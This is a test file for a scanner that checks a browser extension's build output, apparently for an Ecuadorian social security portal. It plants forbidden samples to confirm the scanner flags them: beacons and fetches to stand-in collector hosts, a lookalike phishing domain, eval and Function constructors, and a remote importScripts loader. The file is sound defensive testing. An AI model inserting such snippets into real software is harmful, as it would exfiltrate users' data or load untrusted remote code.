/**
 * The package check (test/tools/check-dist.ts) on planted samples: each forbidden pattern is found, the
 * allowed addresses are not, and a planted file in a copy of a build folder makes the scan fail. The real
 * builds are scanned by test/e2e/privacy.e2e.ts, after the E2E set-up has built them fresh.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { OFFICIAL_LINKS } from '../../../src/flow/links';
import { scanDir, scanText } from '../../tools/check-dist';

const rules = (text: string) => scanText('sample.js', text).map((f) => f.rule);

describe('check-dist: what a package must not contain', () => {
  it.each([
    ['fetch("https://collector.example.com/t?x=1")', 'remote URL'],
    ["navigator.sendBeacon('http://198.51.100.7/beacon', data)", 'remote URL'],
    ['new WebSocket(`wss://push.example.net/socket`)', 'remote URL'],
    ['a.href="https://app.iess.gob.ec.evil.example/iess-gestion-desbloqueo-publico-web/"', 'remote URL'],
    // An official host, but not one of the official pages: only the exact links are allowed.
    ['fetch("https://app.iess.gob.ec/api/track")', 'remote URL'],
    ['const f = eval("1+1")', 'eval'],
    ['window.eval (code)', 'eval'],
    ['const g = new Function("a", "return a")', 'new Function'],
    ['const g = Function("return this")()', 'Function constructor'],
    ["setTimeout('alert(1)', 10)", 'string timer'],
    ["importScripts('lib.js')", 'importScripts'],
    ['await import("//cdn.example.com/m.js")', 'remote import()'],
    ['<script src=//cdn.example.com/x.js></script>', 'remote script src'],
    ['@import url("//fonts.example.com/f.css");', 'remote CSS import'],
  ])('finds %s', (sample, rule) => {
    expect(rules(sample)).toContain(rule);
  });

  it('flags the remote <script src> of a page with its rule and its line', () => {
    const html = '<!doctype html>\n<head>\n<script type="module" src="https://cdn.example.com/app.js"></script>';
    expect(scanText('popup.html', html)).toEqual(
      expect.arrayContaining([expect.objectContaining({ rule: 'remote script src', line: 3 }), expect.objectContaining({ rule: 'remote URL', line: 3 })]),
    );
  });

  it.each([
    ...Object.values(OFFICIAL_LINKS).map((l) => `a.href=${JSON.stringify(l.href)}`),
    'document.createElementNS("http://www.w3.org/2000/svg","svg")',
    'i==`http://www.w3.org/1998/Math/MathML`',
    'message:`La dirección empieza con http:// en lugar de https://.`',
    'const evaluate = (x) => x; retrieval(1); obj.evaluation(2); myeval(3)',
    'setTimeout(() => done(), 10); import("./chunk.js"); <script type="module" src="/assets/x.js">',
  ])('allows %s', (sample) => {
    expect(scanText('sample.js', sample)).toEqual([]);
  });

  let dir: string | null = null;
  afterEach(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
    dir = null;
  });

  it('scans every text file of a build folder, so one planted file fails it', () => {
    dir = mkdtempSync(join(tmpdir(), 'check-dist-'));
    mkdirSync(join(dir, 'assets'));
    writeFileSync(join(dir, 'manifest.json'), '{"manifest_version":3}');
    writeFileSync(join(dir, 'assets', 'ok.js'), 'export const a = 1;');
    writeFileSync(join(dir, 'icon.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x68, 0x74, 0x74, 0x70]));
    expect(scanDir(dir)).toEqual([]);
    writeFileSync(join(dir, 'assets', 'loader.js'), 'if (false) importScripts("https://cdn.example.com/late.js");');
    expect(scanDir(dir).map((f) => `${f.file}: ${f.rule}`).sort()).toEqual(['assets/loader.js: importScripts', 'assets/loader.js: remote URL']);
  });
});
